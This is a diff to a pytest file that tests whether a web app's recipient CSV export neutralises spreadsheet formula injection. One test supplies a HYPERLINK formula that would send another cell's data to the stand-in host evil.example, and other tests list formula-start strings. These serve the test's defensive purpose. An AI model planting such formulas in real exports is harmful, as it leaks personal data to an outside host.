@@ -1,6 +1,9 @@
-"""Absurd values are refused with a code wherever they enter (page, API, service)."""
+"""Absurd values are refused with a code wherever they enter (page, API, service); exports cannot
+carry spreadsheet formulas."""
 
+import csv
 import datetime
+import io
 from decimal import Decimal
 
 import pytest
@@ -82,3 +85,35 @@ def test_a_case_needs_a_sane_date_and_length(world, case_worker):
                                received_on=TODAY, approval=None)  # fmt: skip
     assert refused.value.code == "max_length"
     assert not QualityCase.objects.exists()
+
+
+def _export_rows(client) -> list[list[str]]:
+    response = client.get("/ansatt/mottakere/eksport.csv")
+    assert response["Content-Type"].startswith("text/csv")
+    text = response.content.decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text), delimiter=";"))
+
+
+def test_the_export_neutralises_spreadsheet_formulas(world, case_worker):
+    hyperlink = '=HYPERLINK("https://evil.example/?d="&B2;"Klikk")'
+    new_recipient(case_worker, name=hyperlink)
+    new_recipient(case_worker, name="@SUM(1)")
+    plain = new_recipient(case_worker, name="Ragnhild Hansen")
+    plain.phone = "+47 55 00 00 00"
+    plain.address = "-1+1"
+    plain.save()
+    rows = _export_rows(site_client("bergen", case_worker))
+    names = {row[1] for row in rows[1:]}
+    assert names == {"'" + hyperlink, "'@SUM(1)", "Ragnhild Hansen"}
+    by_name = {row[1]: row for row in rows[1:]}
+    assert by_name["Ragnhild Hansen"][2] == "'-1+1"
+    assert by_name["Ragnhild Hansen"][6] == "'+47 55 00 00 00"
+
+
+@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
+def test_every_formula_start_is_neutralised(value):
+    from fritt.web.csv_export import neutralise
+
+    assert neutralise(value) == "'" + value
+    assert neutralise("Ola Nordmann") == "Ola Nordmann"
+    assert neutralise(42) == 42
